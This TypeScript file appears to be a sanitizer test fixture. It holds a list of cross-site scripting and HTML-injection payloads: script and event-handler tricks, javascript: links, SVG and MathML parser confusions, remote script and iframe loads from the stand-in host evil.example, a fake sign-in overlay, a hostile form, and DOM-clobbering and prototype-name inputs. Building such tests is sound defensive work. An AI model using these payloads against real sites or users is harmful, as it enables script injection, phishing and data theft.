/** Answers that try to be HTML. What would run says so by `window.ran`; what would be fetched is at evil.example. */
export const MARKUP: Record<string, string> = {
  'a script': '<script>window.ran = 1; alert(1)</script>',
  'a script from elsewhere': '<script src="https://evil.example/script.js"></script>',
  'a module': '<script type="module">import "https://evil.example/module.js"</script>',
  'a script split by a comment': '<scr<!-- -->ipt>window.ran = 1</scr<!-- -->ipt>',
  'a script after a closed title': '</title></textarea></noscript></template><script>window.ran = 1</script>',
  'an image that fails': '<img src=x onerror="window.ran = 1">',
  'an image within a line': 'text <img src=x onerror=window.ran=1> text',
  'an image with a set of sources': '<img srcset="https://evil.example/a.png 1x" onload="window.ran = 1">',
  'a picture':
    '<picture><source srcset="https://evil.example/p.webp"><img src="https://evil.example/p.png"></picture>',
  'a drawing that loads': '<svg onload="window.ran = 1"><circle r="9"/></svg>',
  'a drawing with a script': '<svg><script>window.ran = 1</script></svg>',
  'a drawing that animates a link':
    '<svg><a><animate attributeName="href" values="javascript:window.ran=1"/><text y="20">press</text></a></svg>',
  'a drawing that uses another': '<svg><use href="https://evil.example/s.svg#x"/></svg>',
  'HTML within a drawing': '<svg><foreignObject><body onload="window.ran = 1"></foreignObject></svg>',
  'a namespace of mathematics':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">',
  'a link of mathematics': '<math href="javascript:window.ran=1"><mi>x</mi></math>',
  'a page within': '<iframe src="javascript:window.ran=1"></iframe>',
  'a page from elsewhere': '<iframe src="https://evil.example/"></iframe>',
  'a page as text': '<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>',
  'an object': '<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf">',
  'a refresh': '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
  'a base': '<base href="https://evil.example/">\n\n[relative](next)',
  'a sheet from elsewhere': '<link rel="stylesheet" href="https://evil.example/style.css">',
  'a hint to connect':
    '<link rel="preconnect" href="https://evil.example"><link rel="dns-prefetch" href="//evil.example">',
  'a style': '<style>body { display: none; background: url(https://evil.example/b.png) }</style>',
  'a style of an element':
    '<div style="position:fixed;inset:0;background:url(https://evil.example/cover.png);z-index:9999">sign in again</div>',
  'a form':
    '<form action="https://evil.example/"><input name="key" autofocus onfocus="window.ran = 1"><button>Go</button></form>',
  'a button that submits': '<button formaction="javascript:window.ran=1">Go</button>',
  'details that toggle': '<details open ontoggle="window.ran = 1"><summary>More</summary></details>',
  'media that fail': '<video><source onerror="window.ran = 1"></video><audio src=x onerror="window.ran = 1">',
  'a marquee': '<marquee onstart="window.ran = 1">news</marquee>',
  'a template': '<template><script>window.ran = 1</script></template>',
  'a custom element': '<x-a onfocus="window.ran = 1" tabindex="1" autofocus>a</x-a>',
  'an unclosed comment': '<!-- <img src=x onerror="window.ran = 1">',
  'character data': '<![CDATA[ <img src=x onerror="window.ran = 1"> ]]>',
  'a processing instruction': '<?xml-stylesheet href="https://evil.example/s.xsl"?>',
  'references for brackets':
    '&lt;img src=x onerror="window.ran = 1"&gt; and &#60;script&#62;window.ran = 1&#60;/script&#62;',
  'markup within a table':
    '| a | b |\n|---|---|\n| <img src=x onerror=window.ran=1> | <script>window.ran=1</script> |',
  'markup within code': '`<img src=x onerror=window.ran=1>`\n\n```html\n<script>window.ran = 1</script>\n```',
  'a language that is markup': '```"><img/src=x/onerror=window.ran=1>\ncode\n```',
  'a heading that clobbers':
    '# <a id="body" name="cookie">documentElement</a>\n\n<img name="getElementById">',
  'names of prototypes':
    '[__proto__]: https://evil.example/p\n[constructor]: https://evil.example/c\n\n[__proto__] [constructor] [toString] [hasOwnProperty]\n\n```__proto__\ncode\n```\n\n```constructor\ncode\n```\n\n&__proto__; &constructor;',
}
